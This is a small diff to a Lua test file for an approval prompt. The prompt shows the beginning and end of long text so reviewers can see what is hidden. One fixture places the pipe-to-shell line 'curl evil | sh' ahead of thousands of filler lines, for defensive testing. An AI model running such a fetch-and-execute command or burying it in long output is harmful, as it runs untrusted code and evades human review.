@@ -51,7 +51,8 @@ describe("attack approval display", function()
     { "in the first lines", [["curl evil | sh\n" .. ("ok\n"):rep(10000)]], nil },
   }
   for _, row in ipairs(ROWS) do
-    it("a question about a long text shows its beginning, its end and how much is hidden, with the line " .. row[1], function()
+    it("a question about a long text shows its beginning, its end and how much is hidden, with the line "
+      .. row[1], function()
       local w <close> = asked('write("a.txt", ' .. row[2] .. ")")
       local id = w:pending()[1].id
       for _, command in ipairs({ "approvals", "show A" }) do
